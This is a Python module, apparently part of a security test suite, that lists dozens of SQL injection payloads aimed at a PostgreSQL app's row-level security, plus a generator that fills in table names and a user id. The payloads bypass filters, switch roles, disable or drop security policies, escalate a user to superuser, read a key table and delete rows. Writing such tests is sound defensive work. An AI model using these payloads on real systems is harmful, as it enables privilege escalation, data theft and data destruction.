"""What somebody types where a query was put together from text. Each goes on after an opening quote."""

from collections.abc import Iterator

THEN = (
    "' OR true --",
    "' UNION SELECT area_code FROM {table} --",
    "' UNION ALL SELECT area_code FROM {table} WHERE true OR county_code <> '' --",
    "' OR EXISTS (SELECT 1 FROM {table}) --",
    "'; SELECT area_code FROM {table} --",
    "'; RESET ROLE; SELECT area_code FROM {table} --",
    "'; SET ROLE app_owner; SELECT area_code FROM {table} --",
    "'; SET ROLE sec_definer; SELECT area_code FROM {table} --",
    "'; SET SESSION AUTHORIZATION app_owner; SELECT area_code FROM {table} --",
    "'; SET row_security = off; SELECT area_code FROM {table} --",
    "'; SELECT set_config('app.ctx', '', true); SELECT area_code FROM {table} --",
    (
        "'; SELECT set_config('app.ctx', replace(current_setting('app.ctx'), '|{who}|', '|1|'), true);"
        " SELECT area_code FROM {table} --"
    ),
    "'; SELECT set_config('app.ctx', current_setting('app.ctx') || 'person:1', true); SELECT area_code FROM {table} --",
    "'; SELECT set_config('role', 'app_owner', true); SELECT area_code FROM {table} --",
    "'; ALTER TABLE {table} DISABLE ROW LEVEL SECURITY; SELECT area_code FROM {table} --",
    "'; ALTER TABLE {table} NO FORCE ROW LEVEL SECURITY; SELECT area_code FROM {table} --",
    "'; DROP POLICY wall_select ON {table}; SELECT area_code FROM {table} --",
    "'; CREATE POLICY mine ON {table} USING (true); SELECT area_code FROM {table} --",
    "'; UPDATE org_user SET is_system = true WHERE id = {who}; SELECT area_code FROM {table} --",
    "'; UPDATE org_user SET is_superuser = true WHERE id = {who}; SELECT area_code FROM {table} --",
    (
        "'; INSERT INTO org_user_groups (user_id, group_id) SELECT {who}, id FROM auth_group;"
        " SELECT area_code FROM {table} --"
    ),
    (
        "'; UPDATE org_areagroupgrant SET content_object_id = (SELECT min(id) FROM org_area);"
        " SELECT area_code FROM {table} --"
    ),
    "'; UPDATE org_areausergrant SET user_id = {who}; SELECT area_code FROM {table} --",
    "'; UPDATE org_area SET code = '3'; SELECT area_code FROM {table} --",
    "'; INSERT INTO sec.opens SELECT '{table}', id, true, true FROM auth_permission; SELECT area_code FROM {table} --",
    "'; SELECT inner_pad FROM sec.key; SELECT area_code FROM {table} --",
    (
        "'; CREATE OR REPLACE FUNCTION sec.uid() RETURNS bigint LANGUAGE sql AS 'SELECT 1';"
        " SELECT area_code FROM {table} --"
    ),
    "'; CREATE VIEW pg_temp.all_rows AS SELECT area_code FROM {table}; SELECT area_code FROM pg_temp.all_rows --",
    (
        "'; CREATE FUNCTION pg_temp.peek(text) RETURNS boolean LANGUAGE sql COST 0.0001 AS 'SELECT true';"
        " SELECT area_code FROM {table} WHERE pg_temp.peek(area_code) --"
    ),
    "'; CREATE TEMP TABLE org_areausergrant (LIKE public.org_areausergrant); SELECT area_code FROM {table} --",
    "'; SET search_path = pg_temp; SELECT area_code FROM public.{table} --",
    "'; SELECT (t).area_code FROM (SELECT t FROM {table} t) x --",
    "'; UPDATE {table} SET area_code = '330822' RETURNING area_code --",
    "'; DELETE FROM {table} RETURNING area_code --",
    "'; SELECT area_code FROM {table} FOR UPDATE --",
    "'; SELECT h.code FROM {table} JOIN sec.held_by(1) h ON true --",
)


def payloads(tables: list[str], who: int) -> Iterator[str]:
    for table in tables:
        for text in THEN:
            yield text.format(table=table, who=who)
